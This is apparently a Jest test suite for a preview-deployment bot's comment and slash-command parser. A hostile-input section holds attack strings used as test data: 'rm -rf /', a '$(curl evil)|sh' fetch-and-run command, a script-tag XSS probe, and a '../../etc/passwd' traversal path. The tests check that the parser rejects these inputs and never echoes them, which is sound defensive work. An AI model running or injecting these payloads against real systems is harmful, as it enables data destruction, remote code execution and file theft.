import { describe, it, expect } from "@jest/globals";
import fc from "fast-check";
import {
  parseComment,
  parseSlash,
  parseDuration,
  parseTarget,
  safeEcho,
  editDistance,
  MAX_TTL_MS,
  type PreviewCommand,
  type SlashCommand,
} from "../../src/intake/parse.js";

const H = 3_600_000;
const D = 24 * H;

function command(result: ReturnType<typeof parseComment>): PreviewCommand {
  if (result.type !== "command") throw new Error(`expected a command, got ${JSON.stringify(result).slice(0, 200)}`);
  return result.command;
}
function replyText(result: { type: string; text?: string }): string {
  if (result.type !== "reply" || result.text === undefined)
    throw new Error(`expected a reply, got ${JSON.stringify(result).slice(0, 200)}`);
  return result.text;
}

describe("parseComment: what is addressed to the bot", () => {
  it.each<[string, string]>([
    ["prose", "Looks good to me, please deploy"],
    ["empty", ""],
    ["blank lines only", "\n  \n\t\n"],
    ["quoted reply", "> /preview deploy\n\nsure, done"],
    ["code fence", "```\n/preview deploy\n```"],
    ["indented code (4 spaces)", "    /preview deploy"],
    ["indented code (tab)", "\t/preview deploy"],
    ["command on a later line", "I think we should\n/preview deploy"],
    ["mid-line mention", "please run /preview deploy"],
    ["no word boundary", "/previewdeploy"],
    ["other bot", "/atlantis plan"],
    ["@mention without botName option", "@preview-bot deploy"],
  ])("ignores %s", (_label, body) => {
    expect(parseComment(body)).toEqual({ type: "ignore" });
  });

  it.each<[string, string, PreviewCommand]>([
    ["plain", "/preview deploy", { name: "deploy" }],
    ["leading blank lines and up to 3 spaces", "\n\n   /preview deploy", { name: "deploy" }],
    ["CRLF line ends", "/preview redeploy\r\nthanks!", { name: "redeploy" }],
    [
      "trailing lines after the command (allowed, ignored)",
      "/preview status\nwhy is this red?\n/preview destroy",
      { name: "status" },
    ],
    ["capitalised by a phone keyboard", "/Preview Deploy", { name: "deploy" }],
    ["a pinned commit", "/preview deploy 1A2B3C4d", { name: "deploy", sha: "1a2b3c4d" }],
    ["a pinned full SHA", `/preview redeploy ${"ab".repeat(20)}`, { name: "redeploy", sha: "ab".repeat(20) }],
    ["extra spaces", "/preview    destroy    --dry-run   ", { name: "destroy", dryRun: true }],
    ["destroy", "/preview destroy", { name: "destroy" }],
    ["extend 3d", "/preview extend 3d", { name: "extend", ttlMs: 3 * D }],
    ["extend 30m", "/preview extend 30m", { name: "extend", ttlMs: 30 * 60_000 }],
    ["extend 12h", "/preview extend 12h", { name: "extend", ttlMs: 12 * H }],
    ["extend 1w", "/preview extend 1W", { name: "extend", ttlMs: 7 * D }],
    ["extend 30d (the limit)", "/preview extend 30d", { name: "extend", ttlMs: 30 * D }],
    ["backup", "/preview backup", { name: "backup" }],
    ["restore latest", "/preview restore latest", { name: "restore", target: "latest" }],
    [
      "restore by name",
      "/preview restore acme/web/pr-42/2026-01-02T03:04:05Z.dump",
      { name: "restore", target: "acme/web/pr-42/2026-01-02T03:04:05Z.dump" },
    ],
  ])("parses %s", (_label, body, expected) => {
    expect(command(parseComment(body))).toEqual(expected);
  });

  it("accepts @botName and @botName[bot] when the bot name is given", () => {
    expect(command(parseComment("@preview-bot deploy", { botName: "preview-bot" }))).toEqual({ name: "deploy" });
    expect(command(parseComment("@preview-bot[bot] status", { botName: "preview-bot" }))).toEqual({ name: "status" });
    expect(parseComment("@preview-bots deploy", { botName: "preview-bot" })).toEqual({ type: "ignore" });
  });
});

describe("parseComment: replies", () => {
  it("answers bare /preview and /preview help with the command list", () => {
    for (const body of ["/preview", "/preview help", "  /preview   \nmore"]) {
      const text = replyText(parseComment(body));
      for (const name of ["deploy", "redeploy", "destroy", "status", "extend", "backup", "restore"])
        expect(text).toContain(`/preview ${name}`);
    }
  });

  it.each<[string, string]>([
    ["deplyo", "deploy"],
    ["destory", "destroy"],
    ["stauts", "status"],
    ["redeply", "redeploy"],
    ["backpu", "backup"],
  ])("suggests the near miss for %s", (typo, meant) => {
    const text = replyText(parseComment(`/preview ${typo}`));
    expect(text).toContain(`did you mean "/preview ${meant}"?`.replace("did", "Did"));
    expect(text).toContain("/preview extend");
  });

  it("gives help without a suggestion when nothing is close", () => {
    const text = replyText(parseComment("/preview launch-the-rockets"));
    expect(text).not.toContain("Did you mean");
    expect(text).toContain("Unknown command");
  });

  it.each<[string, RegExp]>([
    ["/preview deploy --force", /does not know the flag `--force`.*takes no flags/],
    ["/preview destroy --yes", /does not know the flag `--yes`.*`--dry-run`/],
    ["/preview deploy now", /Usage: `\/preview deploy \[<commit sha>\]`/],
    ["/preview deploy 1a2b3c", /7 to 40 hex digits/],
    ["/preview redeploy 1a2b3c4 5d6e7f8", /Usage: `\/preview redeploy/],
    ["/preview status 1a2b3c4", /takes no arguments/],
    ["/preview extend", /Usage: `\/preview extend <duration>`/],
    ["/preview extend 3 days", /Usage/],
    ["/preview extend 45d", /too long: the longest is 30d/],
    ["/preview extend 5m", /too short/],
    ["/preview extend 0d", /too short/],
    ["/preview extend soon", /not a duration/],
    ["/preview extend 99999999d", /not a duration/],
    ["/preview restore", /Usage: `\/preview restore/],
    ["/preview restore ../../etc/passwd", /not a backup name/],
  ])("explains %s", (body, expected) => {
    expect(replyText(parseComment(body))).toMatch(expected);
  });
});

describe("parseComment: hostile input", () => {
  it("handles a 1 MB comment without throwing or echoing it", () => {
    const huge = `/preview ${"x".repeat(1024 * 1024)}`;
    const text = replyText(parseComment(huge));
    expect(text.length).toBeLessThan(600);
    expect(parseComment("a".repeat(1024 * 1024))).toEqual({ type: "ignore" });
    expect(parseComment(`${"\n".repeat(500_000)}/preview deploy`)).toEqual({
      type: "command",
      command: { name: "deploy" },
    });
  });

  it("never echoes markup, mentions, NUL or shell metacharacters", () => {
    const cases = [
      "/preview `rm -rf /`",
      "/preview @everyone",
      "/preview <script>alert(1)</script>",
      "/preview de\u0000ploy",
      "/preview $(curl evil)|sh;",
      "/preview \u202Eyolped",
      "/preview [x](http://evil)",
    ];
    for (const body of cases) {
      const result = parseComment(body);
      const text = replyText(result);
      const firstLine = text.split("\n")[0]!;
      // eslint-disable-next-line no-control-regex -- a NUL byte must not come back
      expect(firstLine).not.toMatch(/[<>@$;|\u0000\u202E[\]()]/);
      expect((firstLine.match(/`/g) ?? []).length % 2).toBe(0);
    }
  });

  it("never throws and always answers one of the three shapes (property)", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "grapheme", maxLength: 200 }),
        fc.constantFrom("", "/preview ", "/preview extend ", "/preview restore ", "@bot "),
        (s, prefix) => {
          const result = parseComment(prefix + s, { botName: "bot" });
          expect(["ignore", "reply", "command"]).toContain(result.type);
          if (result.type === "reply") expect(result.text).not.toContain("\u0000");
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("parseSlash", () => {
  it.each<[string, SlashCommand]>([
    ["list", { name: "list" }],
    ["list acme/web", { name: "list", owner: "acme", repo: "web" }],
    ["status acme/web#42", { name: "status", owner: "acme", repo: "web", number: 42 }],
    ["deploy acme/my.repo_x-1#7", { name: "deploy", owner: "acme", repo: "my.repo_x-1", number: 7 }],
    ["redeploy acme/web#7", { name: "redeploy", owner: "acme", repo: "web", number: 7 }],
    ["deploy acme/web#7 1A2B3C4", { name: "deploy", owner: "acme", repo: "web", number: 7, sha: "1a2b3c4" }],
    ["destroy acme/web#42", { name: "destroy", owner: "acme", repo: "web", number: 42 }],
    ["destroy acme/web#42 --dry-run", { name: "destroy", owner: "acme", repo: "web", number: 42, dryRun: true }],
    ["  extend   acme/web#42   3d ", { name: "extend", owner: "acme", repo: "web", number: 42, ttlMs: 3 * D }],
    ["backup acme/web#42", { name: "backup", owner: "acme", repo: "web", number: 42 }],
    ["backups acme/web#42", { name: "backups", owner: "acme", repo: "web", number: 42 }],
    ["backup shop", { name: "backup", backupTarget: "shop" }],
    ["backups orders-eu", { name: "backups", backupTarget: "orders-eu" }],
  ])("parses %s", (text, expected) => {
    expect(parseSlash(text)).toEqual({ type: "command", command: expected });
  });

  it.each<[string, RegExp]>([
    ["", /list \[owner\/repo\]/],
    ["help", /backups owner\/repo#N/],
    ["deplyo acme/web#1", /Did you mean "\/preview deploy"\?/],
    ["deploy", /needs a pull request/],
    ["deploy acme/web", /is not a pull request/],
    ["deploy acme/web#0", /is not a pull request/],
    ["deploy acme/web#-1", /`acme\/web#-1` is not a pull request/],
    ["deploy -acme/web#1", /does not know the flag/],
    ["deploy acme/../x#1", /is not a pull request/],
    ["deploy ac--me/web#1", /is not a pull request/],
    ["deploy acme/web#1 acme/web#2", /Usage: `\/preview deploy owner\/repo#N \[<commit sha>\]`/],
    ["destroy acme/web#1 1a2b3c4", /Usage/],
    ["status acme/web#1234567890", /is not a pull request/],
    ["extend acme/web#1", /Usage: `\/preview extend owner\/repo#N 3d`/],
    ["extend acme/web#1 60d", /too long/],
    ["list acme", /Usage: `\/preview list \[owner\/repo\]`/],
    ["destroy acme/web#1 --force", /`--dry-run`/],
  ])("answers %j with an explanation", (text, expected) => {
    expect(replyText(parseSlash(text))).toMatch(expected);
  });

  it("does not echo hostile targets raw", () => {
    const text = replyText(parseSlash("status <!channel>&<@U123>#1"));
    expect(text).not.toMatch(/[<>&@]/);
    expect(replyText(parseSlash(`status ${"a".repeat(600)}`))).toMatch(/too long/);
  });
});

describe("helpers", () => {
  it("validates owner/repo#N strictly", () => {
    expect(parseTarget("acme/web#42")).toEqual({ owner: "acme", repo: "web", number: 42 });
    for (const bad of [
      "acme/web",
      "/web#1",
      "acme/#1",
      "acme/web#01",
      "acme/web#1#2",
      "a".repeat(40) + "/web#1",
      "acme/web/x#1",
      "-acme/web#1",
      "acme/..#1",
      "acme/we b#1",
    ]) {
      expect(parseTarget(bad)).toBeUndefined();
    }
  });

  it("bounds durations", () => {
    expect(parseDuration("30d")).toEqual({ ok: true, ms: MAX_TTL_MS });
    expect(parseDuration("31d").ok).toBe(false);
    expect(parseDuration("2d", 24 * H).ok).toBe(false);
    expect(parseDuration("-1d").ok).toBe(false);
  });

  it("escapes and caps echoed text", () => {
    expect(safeEcho("deploy")).toBe("deploy");
    expect(safeEcho("a`b*c_d<e>@f")).toBe("a?b?c?d?e??f");
    expect(safeEcho("x".repeat(100), 10)).toBe(`${"x".repeat(10)}…`);
    expect(safeEcho("héllo-wörld")).toBe("héllo-wörld");
  });

  it("computes edit distance", () => {
    expect(editDistance("deplyo", "deploy")).toBe(2);
    expect(editDistance("", "abc")).toBe(3);
    expect(editDistance("status", "status")).toBe(0);
  });
});

describe("edges the mutation report found untested", () => {
  it("slash usage names the subcommand that was asked, with its own arguments", () => {
    expect(parseSlash("redeploy acme/web#7 1A2B3C4")).toEqual({
      type: "command",
      command: { name: "redeploy", owner: "acme", repo: "web", number: 7, sha: "1a2b3c4" },
    });
    expect(replyText(parseSlash("redeploy acme/web#7 a b"))).toContain(
      "Usage: `/preview redeploy owner/repo#N [<commit sha>]`",
    );
    expect(replyText(parseSlash("destroy acme/web#7 extra"))).toContain(
      "Usage: `/preview destroy owner/repo#N [--dry-run]`",
    );
    expect(replyText(parseSlash("backup acme/web#7 extra"))).toContain(
      "Usage: `/preview backup owner/repo#N|<backup target>`",
    );
    expect(replyText(parseSlash("backups acme/web#7 extra"))).toContain(
      "Usage: `/preview backups owner/repo#N|<backup target>`",
    );
    expect(replyText(parseSlash("status acme/web#7 extra"))).toContain("Usage: `/preview status owner/repo#N`.");
  });

  it("a bare backup-target name is taken only by backup and backups, alone, and only when it is a name", () => {
    for (const text of [
      "status shop",
      "deploy shop",
      "backup shop extra",
      "backup -shop",
      "backup sh*p",
      `backup ${"a".repeat(64)}`,
      "backup _shop",
    ]) {
      const r = parseSlash(text);
      expect(r.type).toBe("reply");
    }
    expect(parseSlash(`backup ${"a".repeat(63)}`)).toEqual({
      type: "command",
      command: { name: "backup", backupTarget: "a".repeat(63) },
    });
  });

  it("a slash command of exactly the limit is read; one character more is refused; a non-string is ignored", () => {
    const padded = (n: number) => `list${" ".repeat(n - 4)}`;
    expect(parseSlash(padded(500))).toEqual({ type: "command", command: { name: "list" } });
    expect(replyText(parseSlash(padded(501)))).toMatch(/too long/);
    expect(parseSlash(undefined as unknown as string)).toEqual({ type: "ignore" });
    expect(parseComment(42 as unknown as string)).toEqual({ type: "ignore" });
    expect(parseComment(`/preview status${" ".repeat(500 - 15)}`)).toEqual({
      type: "command",
      command: { name: "status" },
    });
    expect(replyText(parseComment(`/preview status${" ".repeat(501 - 15)}`))).toMatch(/too long/);
  });

  it("restore takes latest in any case, and no backup name that climbs with ..", () => {
    expect(parseComment("/preview restore LATEST")).toEqual({
      type: "command",
      command: { name: "restore", target: "latest" },
    });
    expect(parseComment("/preview restore previews/web_pr_1/web_pr_1-20261120T010000000Z.dump")).toEqual({
      type: "command",
      command: { name: "restore", target: "previews/web_pr_1/web_pr_1-20261120T010000000Z.dump" },
    });
    expect(replyText(parseComment("/preview restore previews/../other/x.dump"))).toMatch(/is not a backup name/);
  });

  it("only /preview or the bot's own mention addresses the bot, at the start of the first non-blank line", () => {
    expect(parseComment("\r\n\n/preview status\r\n")).toEqual({ type: "command", command: { name: "status" } });
    expect(parseComment("/previewstatus")).toEqual({ type: "ignore" });
    expect(parseComment("/prev")).toEqual({ type: "ignore" });
    expect(parseComment("x /preview status")).toEqual({ type: "ignore" });
    expect(parseComment("@preview-bot status")).toEqual({ type: "ignore" }); // no bot name given: mentions are not ours
    expect(parseComment("@Preview-Bot status", { botName: "preview-bot" })).toEqual({
      type: "command",
      command: { name: "status" },
    });
  });

  it("durations: anchored, bounded at both ends, formatted in the largest whole unit", () => {
    expect(parseDuration("10m")).toEqual({ ok: true, ms: 10 * 60_000 });
    expect(parseDuration("9m").ok).toBe(false);
    expect(parseDuration("30d")).toEqual({ ok: true, ms: 30 * D });
    expect(parseDuration("31d")).toEqual({ ok: false, reason: "`31d` is too long: the longest is 30d." });
    expect(parseDuration("1d", 12 * H)).toEqual({ ok: false, reason: "`1d` is too long: the longest is 12h." });
    expect(parseDuration("1d", 2 * 7 * D).ok).toBe(true);
    expect(parseDuration("3d!").ok).toBe(false);
    expect(parseDuration("x3d").ok).toBe(false);
    expect(parseDuration("2h", 90 * 60_000)).toEqual({ ok: false, reason: "`2h` is too long: the longest is 90m." });
  });

  it("owner/repo: the slash may not start the text, and . is not a repository", () => {
    expect(parseTarget("/web#1")).toBeUndefined();
    expect(parseTarget("acme/.#1")).toBeUndefined();
    expect(parseTarget("acme/..#1")).toBeUndefined();
    expect(parseTarget("acme/.github#1")).toEqual({ owner: "acme", repo: ".github", number: 1 });
    expect(parseTarget("x acme/web#1")).toBeUndefined();
  });

  it("echoes at most max characters, marks a cut with …, and replaces every unsafe character", () => {
    expect(safeEcho("a".repeat(32))).toBe("a".repeat(32));
    expect(safeEcho("a".repeat(33))).toBe(`${"a".repeat(32)}…`);
    expect(safeEcho("ab`c", 3)).toBe("ab?…");
    expect(safeEcho("a b")).toBe("a?b");
    expect(safeEcho("🚀x", 1)).toBe("?…");
  });
});
